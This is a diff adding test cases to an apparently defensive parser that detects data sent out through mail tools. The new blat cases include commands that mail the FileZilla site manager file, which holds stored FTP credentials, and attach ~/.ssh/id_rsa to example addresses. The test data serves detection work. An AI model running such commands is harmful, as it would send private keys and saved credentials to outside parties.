@@ -34,6 +34,27 @@ describe('data carried out in mail and packet payloads', () => {
       [['mail', 'smtp.example.net', '', '.env', false]],
     ],
     [['swaks', '--to', 'a@example.org', '--body', 'hello'], [['mail', 'example.org', '4', '', false]]],
+    // blat: the first word is the body file, -attach adds files, -server is where it goes
+    [
+      [
+        'blat',
+        '%APPDATA%FileZillasitemanager.xml',
+        '-to',
+        'c@mail.example.org',
+        '-subject',
+        'sm',
+        '-server',
+        'smtp.example.org',
+      ],
+      [['mail', 'smtp.example.org', '5', '%APPDATA%FileZillasitemanager.xml', false]],
+    ],
+    [
+      ['blat', 'body.txt', '-to', 'x@example.net', '-attach', '~/.ssh/id_rsa,notes.txt'],
+      [['mail', 'example.net', '', 'body.txt,~/.ssh/id_rsa,notes.txt', false]],
+    ],
+    [['blat', '-', '-to', 'x@example.net', '-body', 'hi'], [['mail', 'example.net', '5', '', true]]],
+    [['blat', '-install', 'smtp.example.org', 'me@example.org'], []],
+    [['blat', '-h'], []],
     // mutt's -a takes every file up to `--`
     [
       ['mutt', '-a', 'a.log', 'b.log', '--', 'ops@example.org'],
